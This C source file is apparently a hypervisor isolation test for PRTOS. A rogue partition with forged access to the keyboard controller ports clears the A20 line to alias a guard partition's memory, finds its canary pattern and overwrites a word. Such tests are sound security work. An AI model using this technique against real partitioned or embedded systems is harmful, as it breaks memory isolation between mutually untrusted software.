/*
 * attack_a20, P0 (normal): owns the i8042 keyboard controller's ports 0x60 and
 * 0x64 (in a configuration forged after prtoscc, which refuses them). It writes
 * the controller's output port with the A20 bit clear: physical address bit 20
 * is then forced to 0, and its own "Window" area (physical 0x06100000) shows
 * the guard's memory at 0x06000000. It looks there for the guard's canary,
 * changes one word, and turns A20 back on.
 */
#include <prtos.h>
#include <stdio.h>

#define WINDOW 0x06100000U
#define WINDOW_WORDS (0x100000U / 4)
#define KBC_DATA 0x60
#define KBC_CMD 0x64
#define KBC_WRITE_OUTPUT 0xD1
#define OUT_A20_OFF 0xDD /* bit 0 (CPU not in reset) set, bit 1 (A20) clear */
#define OUT_A20_ON 0xDF

static void outb(prtos_u16_t port, prtos_u8_t v)
{
	__asm__ volatile("outb %0, %1" : : "a"(v), "Nd"(port));
}

static void a20(int on)
{
	outb(KBC_CMD, KBC_WRITE_OUTPUT);
	outb(KBC_DATA, on ? OUT_A20_ON : OUT_A20_OFF);
}

void partition_main(void)
{
	volatile prtos_u32_t *w = (volatile prtos_u32_t *)WINDOW;
	prtos_u32_t i, found = 0;

	prtos_idle_self(); /* the guard writes its canary in its first slot */
	prtos_idle_self();
	printf("[Rogue] window word 0 before: 0x%x\n", w[0]);
	a20(0);
	printf("[Rogue] A20 off; window word 0 now: 0x%x\n", w[0]);
	for (i = 0; i + 2 < WINDOW_WORDS && !found; i++)
		if (w[i] == 0x5EC70000U && w[i + 1] == 0x5EC70001U && w[i + 2] == 0x5EC70002U)
			found = WINDOW + i * 4;
	if (found) {
		w[(found - WINDOW) / 4 + 5] = 0xBAD0BAD0U;
		printf("[Rogue] canary pattern at window 0x%x (guard 0x%x): changed a word\n",
		       found, found - 0x100000U);
	} else {
		printf("[Rogue] no canary pattern through the window\n");
	}
	a20(1);
	printf("[Rogue] A20 on again\n");
	for (;;)
		prtos_idle_self();
}
